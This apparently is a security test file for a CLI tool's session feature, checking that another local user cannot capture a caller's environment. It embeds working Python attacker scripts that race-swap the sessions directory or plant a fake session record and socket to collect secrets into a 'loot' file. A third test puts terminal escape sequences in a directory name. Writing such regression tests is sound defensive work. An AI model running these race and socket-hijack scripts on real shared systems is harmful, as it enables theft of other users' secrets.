/**
 * Attacks on sessions (docs/session.md "Private to you"), each asserting
 * what the threat model promises: another user who owns a folder above
 * the sessions directory, or who owns the directory where `/proc` cannot
 * tell who runs jn, never receives a caller's environment; a session's
 * `--debug` reason reaches the terminal made visible (more:
 * attack_session_dir_test.ts, attack_session_flood_test.ts). The other-user
 * tests need root (to act as uid 65534 with setpriv), bubblewrap and
 * python3; they are ignored otherwise, saying so.
 *
 * @module
 */

import assert from "node:assert/strict";
import { baseEnv, FIXTURES, ROOT } from "../helpers.ts";
import { VERSION } from "../../lib/version.ts";
import { sessionHome, until } from "../sessions/support.ts";

const run = (tool: string, ...args: string[]) => {
  try {
    return new Deno.Command(tool, { args, stdout: "piped", stderr: "null" }).outputSync();
  } catch {
    return undefined;
  }
};
const IS_ROOT = new TextDecoder().decode(run("id", "-u")?.stdout).trim() === "0";
const HAS_TOOLS = IS_ROOT &&
  ["setpriv", "bwrap", "python3"].every((t) => run(t, "--version")?.success);
// deno-lint-ignore no-console
if (!HAS_TOOLS) console.warn("SKIPPED the other-user session attacks: need root, setpriv, bwrap");

/** What `main.ts` runs first, for `jn cat @x/t` (forward_lookup.ts, then forward.ts). */
const CALLER = `import { sessionsNamedBy } from "${ROOT}/lib/cli/forward_lookup.ts";\n` +
  `import { forwardToSession } from "${ROOT}/lib/cli/forward.ts";\n` +
  `const forward = async () => {\n` +
  `  const sessions = sessionsNamedBy(["cat", "@x/t"]);\n` +
  `  if (sessions) await forwardToSession(["cat", "@x/t"], sessions);\n` +
  `};\n`;
const COUNTER_META = JSON.stringify({
  command: "node",
  args: [`${FIXTURES}/servers/counter.mjs`],
  transport: "stdio",
});

// ---------------------------------------------------------------------------
// 1. The calling side checks only the last path component of the sessions
//    directory, once (lstat), then reads it and connects to whatever socket
//    path the record names. A user who owns a PARENT of the sessions directory
//    (sudo -E / sudo keeping HOME or XDG_RUNTIME_DIR, `su` without `-`, an
//    XDG_RUNTIME_DIR pointed at a shared place) swaps the directory between
//    the check and the read, and receives the victim's whole environment
//    (secrets included), argv and cwd — and can then pull its stdin and write
//    to its terminal.
// ---------------------------------------------------------------------------
Deno.test({
  name: "attack: another user who owns a parent of the sessions dir gets the caller's env",
  ignore: !HAS_TOOLS,
  async fn() {
    const base = await Deno.makeTempDir({ prefix: "jn-rt-" });
    await Deno.chmod(base, 0o755);
    try {
      // The attacker (uid 65534) owns the parent (say: a HOME or runtime dir a
      // `sudo -E` root process uses); root's own 0700 sessions dir lives in it.
      const parent = `${base}/runtime`;
      await Deno.mkdir(parent, { mode: 0o755 });
      await Deno.chown(parent, 65534, 65534);
      await Deno.mkdir(`${parent}/jn`, { mode: 0o700 }); // root's, private: passes every check
      const attackerDir = `${base}/att`;
      await Deno.mkdir(attackerDir, { mode: 0o755 });
      await Deno.chown(attackerDir, 65534, 65534);
      const loot = `${attackerDir}/loot`;
      const script = `${base}/attacker.py`;
      await Deno.writeTextFile(script, ATTACKER_PY);
      await Deno.chmod(script, 0o755);
      const attacker = new Deno.Command("setpriv", {
        args: [
          "--reuid=65534",
          "--regid=65534",
          "--clear-groups",
          "/usr/bin/python3",
          script,
          parent,
          attackerDir,
          VERSION,
          "20",
        ],
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      await until(() => exists(`${attackerDir}/ready`), 10_000);
      // The victim: root's `jn cat @x/t` — what main.ts does first (forward.ts).
      const victim = `${base}/victim.ts`;
      await Deno.writeTextFile(
        victim,
        CALLER +
          `const end = Date.now() + 8000;\n` +
          `while (Date.now() < end) {\n` +
          `  await forward();\n` +
          `  try { Deno.statSync("${loot}"); break; } catch { /* again */ }\n` +
          `}\n`,
      );
      const run = await new Deno.Command(Deno.execPath(), {
        args: ["run", "-A", "--no-config", victim],
        env: {
          ...baseEnv(),
          XDG_RUNTIME_DIR: parent,
          MY_API_TOKEN: "s3cr3t-of-root",
        },
        clearEnv: true,
        stdout: "piped",
        stderr: "piped",
      }).output();
      try {
        attacker.kill("SIGKILL");
      } catch { /* gone */ }
      await attacker.output().catch(() => {});
      const stolen = await Deno.readTextFile(loot).catch(() => "");
      assert.equal(run.code, 0, new TextDecoder().decode(run.stderr));
      assert.ok(
        !stolen.includes("s3cr3t-of-root"),
        `the other user received the caller's environment: ${stolen.slice(0, 300)}…`,
      );
    } finally {
      await Deno.remove(base, { recursive: true }).catch(() => {});
    }
  },
});

// ---------------------------------------------------------------------------
// 1b. Where `/proc/self` cannot be read (macOS always; a Linux process
//     without /proc), the caller's fast check (session_dir.ts
//     privacyProblemNow) skips the OWNER check entirely. root (which can read
//     any 0700 directory) then takes another user's sessions dir as its own:
//     on macOS `sudo` keeps HOME by default (env_keep), so `sudo jn cat @x/t`
//     reads ~alice/.local/jn/sessions and sends root's environment to
//     whatever socket alice's records name. No race needed. Shown on Linux by
//     running the caller in bubblewrap with an empty /proc.
// ---------------------------------------------------------------------------
Deno.test({
  name: "attack: without /proc the caller forwards to a sessions dir of another user",
  ignore: !HAS_TOOLS,
  async fn() {
    const base = await Deno.makeTempDir({ prefix: "jn-rt-" });
    await Deno.chmod(base, 0o755);
    try {
      const runtime = `${base}/runtime`;
      await Deno.mkdir(runtime, { mode: 0o755 });
      const attackerDir = `${base}/att`;
      await Deno.mkdir(attackerDir, { mode: 0o755 });
      await Deno.chown(attackerDir, 65534, 65534);
      await Deno.chown(runtime, 65534, 65534);
      const script = `${base}/attacker.py`;
      await Deno.writeTextFile(script, ATTACKER_NO_RACE_PY);
      const attacker = new Deno.Command("setpriv", {
        args: [
          "--reuid=65534",
          "--regid=65534",
          "--clear-groups",
          "/usr/bin/python3",
          script,
          runtime,
          attackerDir,
          VERSION,
        ],
        stdout: "piped",
        stderr: "piped",
      }).spawn();
      await until(() => exists(`${attackerDir}/ready`), 10_000);
      const victim = `${base}/victim.ts`;
      await Deno.writeTextFile(victim, `${CALLER}await forward();\n`);
      const run = await new Deno.Command("bwrap", {
        args: [
          "--dev-bind",
          "/",
          "/",
          "--tmpfs",
          "/proc",
          Deno.execPath(),
          "run",
          "-A",
          "--no-config",
          victim,
        ],
        env: { ...baseEnv(), XDG_RUNTIME_DIR: runtime, MY_API_TOKEN: "s3cr3t-of-root" },
        clearEnv: true,
        stdout: "piped",
        stderr: "piped",
      }).output();
      await until(() => exists(`${attackerDir}/loot`), 2_000).catch(() => {});
      try {
        attacker.kill("SIGKILL");
      } catch { /* gone */ }
      await attacker.output().catch(() => {});
      const stolen = await Deno.readTextFile(`${attackerDir}/loot`).catch(() => "");
      assert.equal(run.code, 0, new TextDecoder().decode(run.stderr));
      assert.ok(
        !stolen.includes("s3cr3t-of-root"),
        `the other user's socket received the caller's environment: ${stolen.slice(0, 200)}…`,
      );
    } finally {
      await Deno.remove(base, { recursive: true }).catch(() => {});
    }
  },
});

const ATTACKER_NO_RACE_PY = `
import os, socket, sys, json
runtime, mine, version = sys.argv[1], sys.argv[2], sys.argv[3]
d = os.path.join(runtime, "jn"); os.mkdir(d, 0o700)
sock_path = os.path.join(mine, "a.sock")
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(sock_path); os.chmod(sock_path, 0o777); srv.listen(4)
with open(os.path.join(d, "0123456789abcdef0123456789abcdef.json"), "w") as f:
    json.dump({"source": "@x", "socket": sock_path, "version": version}, f)
open(os.path.join(mine, "ready"), "w").close()
c, _ = srv.accept(); c.settimeout(2); data = b""
try:
    while True:
        b = c.recv(65536)
        if not b: break
        data += b
        if data.rstrip().endswith(b"}}"): break
except Exception: pass
with open(os.path.join(mine, "loot"), "wb") as f: f.write(data)
`;

/** The attacker: listens on its own socket, swaps the sessions dir with its own in a loop. */
const ATTACKER_PY = `
import os, socket, sys, threading, time, json
parent, mine, version, seconds = sys.argv[1], sys.argv[2], sys.argv[3], float(sys.argv[4])
sock_path = os.path.join(mine, "a.sock")
srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
srv.bind(sock_path); os.chmod(sock_path, 0o777); srv.listen(64)
def serve():
    while True:
        c, _ = srv.accept()
        c.settimeout(2)
        data = b""
        try:
            while len(data) < 1 << 20:
                b = c.recv(65536)
                if not b: break
                data += b
                if b"MY_API_TOKEN" in data and data.rstrip().endswith(b"}}"): break
        except Exception: pass
        with open(os.path.join(mine, "loot"), "ab") as f: f.write(data)
        c.close()
threading.Thread(target=serve, daemon=True).start()
evil = os.path.join(parent, "evil")
os.mkdir(evil, 0o755)
with open(os.path.join(evil, "0123456789abcdef0123456789abcdef.json"), "w") as f:
    json.dump({"source": "@x", "socket": sock_path, "version": version}, f)
open(os.path.join(mine, "ready"), "w").close()
jn, real = os.path.join(parent, "jn"), os.path.join(parent, "real")
end = time.time() + seconds
while time.time() < end and not os.path.exists(os.path.join(mine, "loot")):
    try:
        os.rename(jn, real); os.rename(evil, jn)
        os.rename(jn, evil); os.rename(real, jn)
    except OSError:
        pass
`;

async function exists(path: string): Promise<boolean> {
  try {
    await Deno.lstat(path);
    return true;
  } catch {
    return false;
  }
}

// ---------------------------------------------------------------------------
// 2. `--debug`: the session's reason for declining a command is printed raw
//    by the caller (lib/cli/forward.ts:90) — control characters of a path or
//    message reach the terminal, while the same error printed by report.ts is
//    made visible. A directory name from an unpacked archive is enough.
// ---------------------------------------------------------------------------
Deno.test("attack: the --debug decline line carries raw control characters", async () => {
  await using home = await sessionHome();
  const user = `${home.home}/.local/jn/profiles/mcp/ctr`;
  await Deno.mkdir(user, { recursive: true });
  await Deno.writeTextFile(`${user}/_meta.json`, COUNTER_META);
  assert.equal((await home.jn(["session", "start", "@ctr"])).code, 0);
  const repo = `${home.dir}/ev\x1b]0;PWNED\x07\x1b[41mil`;
  await Deno.mkdir(`${repo}/.jn/profiles/mcp/ctr`, { recursive: true });
  await Deno.writeTextFile(`${repo}/.jn/profiles/mcp/ctr/_meta.json`, "{");
  const result = await home.jn(["--debug", "cat", "@ctr/count"], { cwd: repo });
  assert.ok(
    // deno-lint-ignore no-control-regex
    !/[\x00-\x08\x0b-\x1f\x7f]/.test(result.stderr),
    `raw control characters on stderr: ${JSON.stringify(result.stderr.split("\n")[0])}`,
  );
});
